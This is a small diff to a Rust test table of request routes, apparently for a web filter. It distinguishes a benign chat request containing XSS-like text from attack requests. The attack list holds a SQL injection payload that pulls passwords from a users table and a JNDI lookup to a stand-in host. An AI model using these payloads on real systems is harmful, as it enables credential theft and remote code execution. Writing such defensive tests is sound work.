@@ -36,11 +36,7 @@ static ROUTES: &[Route] = &[
     },
     Route {
         profile: "llm-chat",
-        carried: (
-            "/api",
-            JSON,
-            r#"{"messages":[{"role":"user","content":"Is <img src=x onerror=alert(1)> dangerous?"}]}"#,
-        ),
+        carried: ("/api", JSON, r#"{"prompt":"Is <img src=x onerror=alert(1)> dangerous?"}"#),
         attacks: &[
             ("/api", JSON, r#"{"messages":[],"model":"x' union select password from users -- "}"#),
             ("/api", JSON, r#"{"messages":[{"role":"user","content":"${jndi:ldap://a.example/x}"}]}"#),
